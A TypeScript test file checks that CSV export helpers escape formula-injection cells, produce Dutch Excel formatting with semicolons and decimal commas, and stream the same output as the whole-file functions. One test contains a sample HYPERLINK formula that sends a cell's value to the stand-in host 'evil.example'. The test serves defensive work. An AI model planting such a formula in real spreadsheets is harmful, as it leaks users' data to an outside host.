import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { BOM, csvChunks, toCsv, toDutchExcelCsv } from "./csv.ts";

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv.slice(BOM.length), { header: true, skipEmptyLines: true }).data;

describe("toCsv (the /v1 downloads)", () => {
  it("escapes a formula with a line break inside it, which papaparse's own pattern lets through", () => {
    const payload = '=HYPERLINK("https://evil.example/?d="&A1,\n"Open het rapport")';
    const [row] = parse(toCsv(["name"], [{ name: payload }]));
    expect(row?.name).toBe(`'${payload}`);
  });

  it("escapes formulas after leading line breaks or spaces, and leaves numbers and plain text alone", () => {
    const rows = parse(toCsv(["a", "b", "c", "d"], [{ a: "\n=1+1", b: "  @SUM(A1)", c: -5, d: "Zorgpact = samen" }]));
    expect(rows).toEqual([{ a: "'\n=1+1", b: "'  @SUM(A1)", c: "-5", d: "Zorgpact = samen" }]);
  });
});

describe("toDutchExcelCsv (the downloads for Dutch Excel)", () => {
  const columns = [
    { key: "name", header: "Naam" },
    { key: "fte", header: "Fte" },
    { key: "themes", header: "Thema's" },
  ];

  it("separates with semicolons, writes decimal commas and Dutch headers, and starts with a BOM", () => {
    const csv = toDutchExcelCsv(columns, [{ name: "Zorgpact Noord", fte: 2.5, themes: "Stage; Werkend leren" }]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.slice(BOM.length)).toBe('Naam;Fte;Thema\'s\r\nZorgpact Noord;2,5;"Stage; Werkend leren"');
  });

  it("escapes formulas as the standard CSV does", () => {
    const csv = toDutchExcelCsv(columns, [{ name: "=SOM(A1)", fte: -1, themes: null }]);
    const [row] = Papa.parse<Record<string, string>>(csv.slice(BOM.length), { header: true, delimiter: ";" }).data;
    expect(row).toEqual({ Naam: "'=SOM(A1)", Fte: "-1", "Thema's": "" });
  });
});

describe("csvChunks (the streamed downloads)", () => {
  const rows = [
    { name: "Zorgpact Noord", fte: 2.5, themes: "Stage; Werkend leren" },
    { name: "=SOM(A1)", fte: -1, themes: null },
    { name: 'Regel één, met komma\nen "aanhalingstekens"', fte: 0, themes: "x" },
  ];
  async function* inBatches<T>(all: T[], size: number) {
    for (let i = 0; i < all.length; i += size) yield all.slice(i, i + size);
  }
  const joined = async (chunks: AsyncIterable<string>) => {
    let text = "";
    for await (const chunk of chunks) text += chunk;
    return text;
  };

  it("writes the same bytes as the whole-file functions, however the rows are batched", async () => {
    const dutch = [
      { key: "name", header: "Naam" },
      { key: "fte", header: "Fte" },
      { key: "themes", header: "Thema's" },
    ];
    for (const size of [1, 2, 3]) {
      expect(await joined(csvChunks({ kind: "standard", columns: ["name", "fte", "themes"] }, inBatches(rows, size)))).toBe(
        toCsv(["name", "fte", "themes"], rows),
      );
      expect(await joined(csvChunks({ kind: "dutch-excel", columns: dutch }, inBatches(rows, size)))).toBe(toDutchExcelCsv(dutch, rows));
    }
    expect(await joined(csvChunks({ kind: "standard", columns: ["name"] }, inBatches([], 1)))).toBe(toCsv(["name"], []));
  });
});
